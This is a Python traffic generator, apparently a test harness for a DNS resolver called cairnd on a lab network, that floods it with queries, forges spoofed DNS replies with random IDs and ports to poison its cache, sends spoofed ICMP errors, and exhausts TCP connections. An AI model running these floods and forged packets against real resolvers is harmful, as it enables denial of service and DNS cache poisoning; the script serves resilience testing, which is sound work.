"""What attackers send towards the client side of cairnd, from a host beside it; prints a line of JSON about it at the end.

usage: python3 flood.py KIND RATE SECONDS SOURCES PATTERN TYPE
    nothing  nothing
    ask      questions: PATTERN with their number for {i}, from so many addresses and one port of each
    forge    replies that nobody asked for, in the name of a good zone's server, ids and ports drawn by lot
    icmp     errors about queries that were perhaps sent
    connect  connections, of which each second one says nothing and the others ask and never read
"""
import collections
import itertools
import json
import random
import selectors
import socket
import struct
import sys
import time

import hostile
import wire

TARGET = "192.168.1.10"
SOURCES = "192.168.1.{}"
FIRST_SOURCE = 100
IMPERSONATED = "198.18.2.1"
PULSE_S = 0.05
LINGER_S = 0.3  # for the last answers
FORGED_PER_NAME = 50


def checksum(octets):
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets)) % 0xffff
    return 0xffff - total


def ip_header(source, target, protocol, size):
    """The kernel fills in the checksum."""
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + size, 0, 0, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(target))


def paced(rate, seconds):
    """Numbers, each when it is due; those that are late come at once."""
    began = time.monotonic()
    for i in range(int(rate * seconds)):
        yield i, began + i / rate - time.monotonic()


class Asker:
    def __init__(self, rate, seconds, sources, pattern, qtype):
        self.rate, self.seconds, self.pattern, self.qtype = rate, seconds, pattern, qtype
        self.selector, self.sockets = selectors.DefaultSelector(), []
        for i in range(sources):
            sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
            sock.bind((SOURCES.format(FIRST_SOURCE + i), 0))
            sock.connect((TARGET, 53))
            sock.setblocking(False)
            self.selector.register(sock, selectors.EVENT_READ)
            self.sockets.append(sock)
        self.sent, self.rcodes, self.addresses = 0, collections.Counter(), set()
        self.pulses, self.last_noerror_s = collections.Counter(), 0
        self.began = time.monotonic()

    def run(self):
        for i, wait_s in paced(self.rate, self.seconds):
            self.receive(max(0, wait_s))
            octets = wire.question(i & 0xffff, self.pattern.replace("{i}", str(i)), self.qtype)
            try:
                self.sockets[i % len(self.sockets)].send(octets)
            except OSError:
                continue
            self.sent += 1
        self.receive(LINGER_S)

    def receive(self, seconds):
        end = time.monotonic() + seconds
        while True:
            for key, _ in self.selector.select(max(0, end - time.monotonic())):
                self.hear(key.fileobj)
            if time.monotonic() >= end:
                return

    def hear(self, sock):
        try:
            octets = sock.recv(65536)
        except OSError:
            return
        message = wire.read(octets)
        self.rcodes[message.rcode] += 1
        self.addresses.update(message.addresses)
        now_s = time.monotonic() - self.began
        self.pulses[int(now_s / PULSE_S)] += len(octets)
        if message.rcode == wire.NOERROR:
            self.last_noerror_s = now_s

    def said(self):
        return {"sent": self.sent, "rcodes": self.rcodes, "addresses": sorted(self.addresses),
                "pulse_octets": max(self.pulses.values(), default=0), "last_noerror_s": self.last_noerror_s}


def ask(*words):
    asker = Asker(*words)
    asker.run()
    return asker.said()


def send_raw(rate, seconds, packet):
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for _, wait_s in paced(rate, seconds):
            if wait_s > 0:
                time.sleep(wait_s)
            raw.sendto(packet(), (TARGET, 0))
            sent += 1
    return {"sent": sent}


def forge(rate, seconds, sources, pattern, qtype):
    """Replies that a resolver waits for while the good client asks for names of this zone, one after the other."""
    numbers = itertools.count()

    def packet():
        qname = pattern.replace("{i}", str(next(numbers) // FORGED_PER_NAME))
        body = wire.name(qname) + struct.pack("!HH", qtype, 1) + wire.address(qname, hostile.FORGED, 86400)
        said = wire.HEADER.pack(random.getrandbits(16), wire.QR | wire.AA, 1, 1, 0, 0) + body
        udp = struct.pack("!4H", 53, random.randrange(1024, 65536), 8 + len(said), 0) + said
        return ip_header(IMPERSONATED, TARGET, socket.IPPROTO_UDP, len(udp)) + udp
    return send_raw(rate, seconds, packet)


def nothing(rate, seconds, *_):
    time.sleep(seconds)
    return {"sent": 0}


def icmp(rate, seconds, *_):
    def packet():
        port = random.randrange(1024, 65536)
        quoted = ip_header(TARGET, IMPERSONATED, socket.IPPROTO_UDP, 48) + struct.pack("!4H", port, 53, 48, 0)
        body = struct.pack("!BBHI", 3, 3, 0, 0) + quoted
        body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
        return ip_header(IMPERSONATED, TARGET, socket.IPPROTO_ICMP, len(body)) + body
    return send_raw(rate, seconds, packet)


def connect(rate, seconds, sources, pattern, qtype):
    held = []
    for i, wait_s in paced(rate, seconds):
        if wait_s > 0:
            time.sleep(wait_s)
        conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        conn.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        conn.bind((SOURCES.format(FIRST_SOURCE + i % sources), 0))
        conn.setblocking(False)
        conn.connect_ex((TARGET, 53))
        held.append(conn)
        if i % 2 and i >= 20:
            said = b"".join(struct.pack("!H", len(octets)) + octets
                            for octets in (wire.question(n, pattern.replace("{i}", str(n)), qtype) for n in range(100)))
            try:
                held[i - 20].send(said)
            except OSError:
                pass
    return {"sent": len(held)}


def main():
    kind, rate, seconds, sources, pattern, qtype = sys.argv[1:]
    print("ready", flush=True)
    sys.stdin.readline()
    kinds = {function.__name__: function for function in (nothing, ask, forge, icmp, connect)}
    print(json.dumps(kinds[kind](float(rate), float(seconds), int(sources), pattern, int(qtype))), flush=True)


if __name__ == "__main__":
    main()
